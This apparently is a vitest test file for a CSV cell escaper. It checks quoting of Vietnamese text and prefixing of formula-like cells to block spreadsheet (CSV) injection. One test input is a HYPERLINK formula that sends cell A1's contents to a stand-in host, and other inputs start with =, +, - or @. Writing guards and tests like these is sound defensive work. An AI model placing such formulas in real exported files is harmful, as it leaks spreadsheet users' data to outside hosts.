/** CSV cells: quoted where the format needs it, and never a formula for a spreadsheet (OWASP CSV injection). */
import { describe, expect, it } from 'vitest';
import { csvCell, toCsvText } from '../src/format/csv.ts';
import { render } from '../src/store/render.ts';

describe('csvCell', () => {
  it.each([
    ['Bộ Tài chính', 'Bộ Tài chính'],
    ['Sở Tài chính, Sở Nội vụ', '"Sở Tài chính, Sở Nội vụ"'],
    ['nói "khẩn trương"', '"nói ""khẩn trương"""'],
    ['hai\ndòng', '"hai\ndòng"'],
    ['=HYPERLINK("http://x.example/?q="&A1,"bấm")', `"'=HYPERLINK(""http://x.example/?q=""&A1,""bấm"")"`],
    ['+84 912 000 000', `"'+84 912 000 000"`],
    ['-1+1', `"'-1+1"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %s', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });
});

describe('every CSV the project writes guards formulas', () => {
  it('a whole file: BOM, CRLF, one guarded row', () => {
    expect(toCsvText([['text'], ['=1+1']])).toBe('\uFEFFtext\r\n"\'=1+1"\r\n');
  });

  it('store tables (query, stats) use the same cells', () => {
    const csv = render([{ text: '@cmd', n: 2 }], [['text', (r) => r.text], ['n', (r) => r.n]], 'csv');
    expect(csv).toBe('\uFEFFtext,n\r\n"\'@cmd",2\r\n');
  });
});
